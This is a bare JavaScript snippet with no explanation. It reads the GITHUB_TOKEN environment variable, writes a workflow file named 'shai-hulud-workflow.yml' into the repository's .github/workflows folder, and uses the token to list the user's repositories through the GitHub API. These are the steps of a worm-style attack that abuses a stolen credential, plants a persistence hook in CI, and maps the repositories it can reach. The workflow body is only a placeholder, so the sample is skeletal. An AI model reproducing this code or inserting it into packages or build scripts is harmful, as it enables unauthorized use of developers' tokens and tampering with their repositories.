const fs = require('fs');
const token = process.env.GITHUB_TOKEN;
fs.mkdirSync('.github/workflows', { recursive: true });
fs.writeFileSync('.github/workflows/shai-hulud-workflow.yml', 'on: push');
fetch('https://api.github.com/user/repos', { headers: { authorization: token } });
